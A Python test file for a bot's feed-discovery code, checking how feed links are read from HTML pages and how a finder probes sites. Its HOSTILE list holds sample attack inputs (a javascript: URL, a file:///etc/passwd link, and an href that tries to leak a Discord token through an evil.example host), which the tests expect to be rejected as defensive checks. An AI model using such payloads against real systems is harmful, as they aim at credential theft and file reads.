"""From a page to its feeds, and what a hostile page cannot make us do."""

from collections.abc import Mapping
from dataclasses import replace

import pytest

from bot.core.errors import FeedError, FetchError
from bot.core.models import Feed, Validators
from bot.core.vocabulary import SourceKind
from bot.feeds.discover import LINK_LIMIT, feed_links, guesses
from bot.feeds.finder import TRIES, FeedFinder
from bot.feeds.parse import parse_document
from bot.feeds.templates import filled_in, template_named
from bot.ports import Fetched, ParsedFeed

PAGE = "https://city.example/news/today"
RSS = b"<rss version='2.0'><channel><title>City</title><item><title>One</title></item></channel></rss>"


def urls(page: str, url: str = PAGE) -> list[str]:
    return [link.url for link in feed_links(page.encode(), url)]


PAGES = [
    # The standard's own form.
    ('<link rel="alternate" type="application/rss+xml" title="News" href="/rss.xml">', ["https://city.example/rss.xml"]),
    ('<LINK REL="ALTERNATE" TYPE="Application/Atom+XML; charset=utf-8" HREF="atom.xml">', ["https://city.example/news/atom.xml"]),
    ('<link rel=alternate type=application/feed+json href=//cdn.example/f.json>', ["https://cdn.example/f.json"]),
    # Legistar: no type, an entity in the address.
    ('<link href="Feed.ashx?M=Calendar&amp;ID=44783118&amp;GUID=3feb264b" rel="alternate" />',
     ["https://city.example/news/Feed.ashx?M=Calendar&ID=44783118&GUID=3feb264b"]),
    # A base moves every relative address.
    ('<base href="https://other.example/x/"><link rel="alternate" type="application/rss+xml" href="f">', ["https://other.example/x/f"]),
    # WordPress puts the comments beside the news, sometimes before.
    (('<link rel="alternate" type="application/rss+xml" title="Comments" href="/comments/feed/">'
      '<link rel="alternate" type="application/rss+xml" title="News" href="/feed/">'),
     ["https://city.example/feed/", "https://city.example/comments/feed/"]),
    # The same feed named twice.
    ('<link rel="alternate" type="application/rss+xml" href="/f#top"><link rel="alternate" type="application/atom+xml" href="/f">',
     ["https://city.example/f"]),
    # Nothing declared: links that a reader can click.
    ('<a href="/rss">RSS</a><a href="/feeds/council.xml">no</a><a href="/news.rss?x=1">Council</a><a href="/breeding">no</a>',
     ["https://city.example/rss", "https://city.example/news.rss?x=1"]),
    # Other alternates are translations and print views.
    ('<link rel="alternate" hreflang="es" href="/es/"><link rel="alternate" media="print" href="/print">', []),
    ('<link rel="stylesheet" type="text/css" href="/rss.css">', []),
    ("", []),
]  # fmt: skip


@pytest.mark.parametrize(("page", "wanted"), PAGES)
def test_a_page_names_its_feeds(page, wanted):
    assert urls(page) == wanted


HOSTILE = [
    # Only the web.
    '<link rel="alternate" type="application/rss+xml" href="javascript:alert(1)">',
    '<link rel="alternate" type="application/rss+xml" href="file:///etc/passwd">',
    '<link rel="alternate" type="application/rss+xml" href="data:application/rss+xml,<rss/>">',
    '<link rel="alternate" type="application/rss+xml" href="http://[::1">',
    # A page that asks for a variable of ours.
    '<link rel="alternate" type="application/rss+xml" href="https://$ENV{CIVICWATCH_DISCORD_TOKEN}.evil.example/">',
    '<link rel="alternate" type="application/rss+xml">',
    '<link rel="alternate" type="application/rss+xml" href="">',
]


@pytest.mark.parametrize("page", HOSTILE)
def test_a_hostile_page_names_nothing(page):
    assert urls(page) == []


def test_a_placeholder_in_a_path_is_no_placeholder_any_more():
    (url,) = urls('<link rel="alternate" type="application/rss+xml" href="/$ENV{HOME}">')

    assert url == "https://city.example/$ENV%7BHOME%7D"


def test_a_page_of_links_is_bounded():
    page = "".join(f'<link rel="alternate" type="application/rss+xml" href="/{i}">' for i in range(5000))

    assert len(urls(page)) == LINK_LIMIT


def test_credentials_are_not_taken_along():
    assert urls('<a href="https://me:pw@city.example/rss">x</a>') == ["https://city.example/rss"]


def test_guesses_begin_below_the_page_and_stay_on_the_site():
    assert guesses("https://city.example/news?x=1")[:2] == [
        "https://city.example/news/feed/",
        "https://city.example/feed/",
    ]
    assert all(guess.startswith("https://city.example/") for guess in guesses(PAGE))
    assert len(guesses(PAGE)) <= TRIES


# --- the finder -----------------------------------------------------------------------------------------


class Web:
    """A fetcher over a table of pages; what is not in it is missing."""

    def __init__(
        self, pages: Mapping[str, bytes | FetchError], moved: Mapping[str, str] | None = None
    ) -> None:
        self.pages = pages
        self.moved = moved or {}
        self.asked: list[str] = []
        self.pauses: list[float] = []

    async def fetch(self, feed: Feed, validators: Validators) -> Fetched:
        self.asked.append(feed.url)
        body = self.pages.get(feed.url, FetchError("HTTP 404", kind="http_404", advice="look for it"))
        if isinstance(body, FetchError):
            raise body
        moved = self.moved.get(feed.url)
        return Fetched(
            status=200, body=body, content_type="", url=moved or feed.url, validators=validators, moved_to=moved
        )  # fmt: skip

    async def parse(self, body: bytes, *, feed: Feed, content_type: str = "", url: str = "") -> ParsedFeed:
        return parse_document(body, content_type=content_type, url=url)

    async def close(self) -> None:
        """Nothing is open."""

    async def pause(self, seconds: float) -> None:
        self.pauses.append(seconds)


async def found(web: Web, url: str = PAGE, request=None):
    feed = Feed(slug="new", name="", url=url, kind=SourceKind.NEWS)
    return await FeedFinder(web, web, pause=web.pause).find(feed, request)


def html(*links: str) -> bytes:
    declared = "".join(
        f'<link rel="alternate" type="application/rss+xml" title="T" href="{x}">' for x in links
    )
    return f"<html><head><title>City</title>{declared}</head><body>Welcome</body></html>".encode()


async def test_a_feed_is_found_at_its_own_address():
    web = Web({PAGE: RSS})
    result = await found(web)

    assert (result.url, result.page, web.asked) == (PAGE, "", [PAGE])


async def test_a_feed_that_moved_for_good_is_kept_at_its_new_address():
    result = await found(Web({PAGE: RSS}, moved={PAGE: "https://new.example/rss"}))

    assert (result.url, result.moved_from) == ("https://new.example/rss", PAGE)


async def test_the_feed_behind_a_page_is_found_and_the_others_are_named():
    web = Web({PAGE: html("/dead", "/rss", "/blog"), "https://city.example/rss": RSS})
    result = await found(web)

    assert (result.url, result.page) == ("https://city.example/rss", PAGE)
    assert [other.url for other in result.others] == [
        "https://city.example/dead",
        "https://city.example/blog",
    ]
    assert len(web.pauses) == 1  # between requests, not before the first


async def test_what_can_not_be_read_is_told_with_its_address():
    with pytest.raises(FeedError, match=r"^https://city\.example/news/today: an empty answer$"):
        await found(Web({PAGE: b""}))


async def test_a_page_without_a_name_is_asked_at_the_usual_places():
    web = Web({PAGE: html(), "https://city.example/rss.xml": RSS})

    assert (await found(web)).url == "https://city.example/rss.xml"
    assert len(web.pauses) == len(web.asked) - 2


async def test_nothing_found_says_what_was_tried():
    web = Web({PAGE: html()})
    with pytest.raises(FeedError) as caught:
        await found(web)

    assert caught.value.kind == "no_feed_found"
    assert "https://city.example/feed/" in caught.value.advice
    assert len(web.asked) <= 1 + TRIES


@pytest.mark.parametrize("kind", ["http_429", "blocked_by_cdn", "timeout", "private_address"])
async def test_a_site_that_shuts_its_door_is_asked_no_further(kind):
    shut = FetchError("no", kind=kind, advice="leave it")
    web = Web({PAGE: html(), "https://city.example/news/today/feed/": shut})
    with pytest.raises(FetchError) as caught:
        await found(web)

    assert (caught.value.kind, len(web.asked)) == (kind, 2)


async def test_a_template_takes_only_the_feed_that_it_means():
    request = filled_in(template_named("legistar"), {"client": "x"}, home="us")
    base = "https://x.legistar.com"
    page = html("/blog/rss", "Feed.ashx?M=Calendar&amp;ID=7&amp;GUID=ABC&amp;Title=x")
    web = Web(
        {
            request.url: page,
            f"{base}/blog/rss": RSS,
            f"{base}/Feed.ashx?M=Calendar&ID=7&GUID=ABC&Mode=All": RSS,
        }
    )
    result = await found(web, request.url, request)

    assert result.url == f"{base}/Feed.ashx?M=Calendar&ID=7&GUID=ABC&Mode=All"
    assert f"{base}/blog/rss" not in web.asked


async def test_a_template_without_its_feed_guesses_nothing():
    request = filled_in(template_named("legistar-files"), {"client": "x"}, home="us")
    web = Web({request.url: html()})
    with pytest.raises(FeedError) as caught:
        await found(web, request.url, request)

    assert "press RSS" in caught.value.advice
    assert web.asked == [request.url]


async def test_a_withdrawn_list_is_told_as_such():
    """New York City's Legistar answers 200 with these words."""
    request = replace(filled_in(template_named("legistar"), {"client": "nyc"}, home="us"), url=PAGE)
    with pytest.raises(FeedError) as caught:
        await found(Web({PAGE: b"Invalid feed"}), PAGE, request)

    assert caught.value.kind == "invalid_feed"
